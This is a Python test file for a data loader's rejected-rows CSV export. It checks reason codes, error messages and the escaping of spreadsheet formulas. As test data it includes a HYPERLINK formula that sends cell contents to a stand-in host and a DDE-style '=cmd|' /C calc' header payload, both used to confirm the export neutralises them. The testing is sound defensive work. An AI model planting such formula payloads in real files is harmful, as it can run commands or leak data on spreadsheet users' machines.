"""core.data.report: problems, load reports, the rejected-rows CSV (formula-escaped), and the shared test helpers
of tests/data (fixtures folder, a fixed "now", problem codes of a report)."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd

from core.data.loaders import load_interactions
from core.data.report import REASONS, LoadReport, NothingLoadedError, Problem

FIXTURES = Path(__file__).parents[1] / "fixtures"


NOW = 1_750_000_000.0  # a fixed "now" (June 2025) so future-date tests do not age


def codes(report: LoadReport) -> list[tuple[int, str, str]]:
    """(row, column, code) of every problem, in report order."""
    return [(p.row, p.column, p.code) for p in report.problems]


def csv_bytes(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


def test_rejected_csv_is_excel_friendly_and_complete() -> None:
    rep = load_interactions(FIXTURES / "bad_ratings.csv")
    data = rep.rejected_csv()
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(back.columns) == ["user", "item", "rating", "line", "reason"]
    assert back["line"].tolist() == ["3", "4", "5", "6", "7", "8"]
    assert back["rating"].tolist() == ["inf", "-1", "5000000", "NaN", "four", ""]
    assert back["reason"].iloc[0] == "rating is infinite"


def test_problem_to_dict_has_the_contract_fields() -> None:
    d = Problem(3, "rating", "x", "rating is not a number", "rating_not_numeric").to_dict()
    assert {"row", "column", "value", "reason"} <= set(d) and d["code"] == "rating_not_numeric"


def test_rejected_csv_escapes_formulas_but_keeps_values_readable() -> None:
    """Uploaded cells a spreadsheet would run get an apostrophe; numbers and words stay as they were."""
    rep = load_interactions(FIXTURES / "formula_cells.csv")
    assert rep.rows_loaded == 1 and rep.rows_rejected == 8
    text = rep.rejected_csv().decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    hyperlink = "'=HYPERLINK(\"http://x.test/?\"&A1;\"click\")"
    assert back["user"].tolist() == [hyperlink, "2", "3", "4", "5", "6", "7", "8"]
    assert back["item"].tolist() == ["a", "'+1+1", "b", "c", "d", "e", "f", "g"]
    assert back["title"].tolist() == ["t", "'@SUM(A1)", "'-2+3", "t", "t", "t", "t", "t"]
    # the values the e2e download test looks for are still there, unescaped
    assert back["rating"].tolist() == ["x", "x", "-1", "inf", "NaN", "four", "5000000", "-0.5"]
    for value in ("-1", "inf", "NaN", "four", "5000000"):
        assert f",{value}," in text
    # the in-memory rejected frame keeps the raw values (only the download is escaped)
    assert rep.rejected["item"].tolist()[1] == "+1+1"


def test_rejected_csv_of_the_bad_ratings_fixture_is_unchanged_by_escaping() -> None:
    """The fixture the e2e download test uploads: its bad values are plain numbers or words."""
    text = load_interactions(FIXTURES / "bad_ratings.csv").rejected_csv().decode("utf-8-sig")
    for bad in ("inf", "-1", "5000000", "NaN", "four"):
        assert f",{bad}," in text
    assert "'" not in text


def test_formula_header_of_an_upload_is_escaped_in_the_download() -> None:
    evil = "=cmd|' /C calc'!A0"
    rep = load_interactions(f"user,item,{evil}\n1,2,3\n1,3,x\n".encode(), name="h.csv", mapping={"rating": evil})
    header = rep.rejected_csv().decode("utf-8-sig").splitlines()[0]
    assert header == "user,item,'=cmd|' /C calc'!A0,line,reason"


def test_nothing_loaded_error_names_the_file_the_top_codes_and_the_first_problem() -> None:
    rep = load_interactions(b"u,i,r\n1,2,x\n3,4,y\n5,,z\n", name="bad.csv")
    err = NothingLoadedError.for_report(rep, [rep])
    assert err.code == "nothing_loaded" and err.reports == [rep]
    assert err.params == {"name": "bad.csv", "rows": 3}
    assert str(err).startswith("bad.csv: no usable rows — all 3 were rejected (3 × rating_not_numeric, 1 × missing_id)")
    assert str(err).endswith("; first at line 2: rating is not a number")


def test_every_reason_template_formats() -> None:
    for code, template in REASONS.items():
        text = template.format(role="user", ref=2, found=1, expected=3, size=200_000, limit=131_072, order="dmy")
        assert text and "{" not in text, code
